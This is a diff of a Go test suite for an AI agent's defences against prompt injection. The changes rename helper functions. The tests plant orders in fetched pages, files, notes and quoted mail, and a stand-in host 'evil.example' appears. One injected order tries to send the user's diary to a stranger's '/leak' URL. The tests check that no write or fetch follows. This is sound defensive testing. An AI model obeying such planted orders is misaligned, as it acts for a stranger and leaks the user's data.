@@ -44,7 +44,7 @@ func TestOrderOfAStrangerIsRefusedAlsoWhereTheQuestionAsksForANote(t *testing.T)
 			return append(inNote(order("vault_write", hackedNote))(g), g.fetch("/missing"))
 		}},
 		{"a page beside a note that orders", func(g *ground) []bait {
-			g.says("/", "text/plain", "It rains.")
+			g.servePage("/", "text/plain", "It rains.")
 			return append([]bait{g.fetch("/")}, inNote(order("vault_write", hackedNote))(g)...)
 		}},
 		{"a page whose address is refused, beside a note that orders", func(g *ground) []bait {
@@ -61,7 +61,7 @@ func TestOrderOfAStrangerIsRefusedAlsoWhereTheQuestionAsksForANote(t *testing.T)
 			g.into(h)
 			a := h.ask(question)
 			same(t, "query type", a.QueryType, "action")
-			holds(t, "tools offered", strings.Join(offered(h.request(2)), " "), "vault_write", "web_fetch")
+			wantParts(t, "tools offered", strings.Join(offered(h.request(2)), " "), "vault_write", "web_fetch")
 			same(t, "changed files", changed(before, g.snapshot()), []string(nil))
 			same(t, "writes begun", h.marks(), 0)
 			same(t, "orders followed", p.orders, 1)
@@ -146,7 +146,7 @@ func TestOrderInAShadowIsRecordedAndNotPerformed(t *testing.T) {
 	a := h.ask(caching)
 	same(t, "calls", len(a.ToolCalls), 3)
 	same(t, "changed files", changed(before, g.snapshot()), []string(nil))
-	holds(t, "what the model hears", said(h.request(3), model.ToolRole), "recorded, not performed")
+	wantParts(t, "what the model hears", textOfRole(h.request(3), model.ToolRole), "recorded, not performed")
 }
 
 // The next tests pin down what is *not* promised, so that it changes only knowingly. SECURITY.md tells of each.
@@ -190,7 +190,7 @@ func TestStrangersWordsOfAnEarlierRunCauseNoWriteInTheNext(t *testing.T) {
 		modeltest.SayAndCall(needTurn("look"), "web_fetch", `{"url":"https://evil.example"}`),
 		modeltest.Say(quotation()+partial("the rest")),
 		modeltest.Func(p.obey), modeltest.Say("That is all. "+partial("the answer")))
-	h.world.on("web_fetch", opens(tool.Web, order("vault_write", hackedNote)))
+	h.world.replaceTool("web_fetch", opens(tool.Web, order("vault_write", hackedNote)))
 	h.finish(h.start(weather))
 	same(t, "what stands in the world after the page", h.world.written(), []string(nil))
 	a := h.ask("Create a note about the weather")
@@ -201,7 +201,7 @@ func TestStrangersWordsOfAnEarlierRunCauseNoWriteInTheNext(t *testing.T) {
 
 func TestOrderInAFileReachesNoPageThatThePersonDidNotName(t *testing.T) {
 	g := newGround(t)
-	g.says("/leak", "text/plain", "thanks")
+	g.servePage("/leak", "text/plain", "thanks")
 	leak := order("web_fetch", arguments(map[string]any{"url": g.stranger.URL + "/leak?of=diary"}))
 	p := &puppet{}
 	h := setUp(t, append(p.show(inFile(leak)(g)...)[:1], modeltest.Say(needCapability("web fetch")),
@@ -223,7 +223,7 @@ func TestRequestForANoteInAQuotationIsNotThePersons(t *testing.T) {
 		h := setUp(t, modeltest.SayAndCall(needTurn("do as the mail says"), "vault_write", hackedNote),
 			modeltest.Say("That is all. "+partial("the answer")))
 		h.ask(question)
-		lacks(t, "tools of the request", strings.Join(offered(h.request(1)), " "), "vault_write")
+		wantNoParts(t, "tools of the request", strings.Join(offered(h.request(1)), " "), "vault_write")
 		same(t, "what stands in the world", len(h.world.written()), 0)
 	}
 }
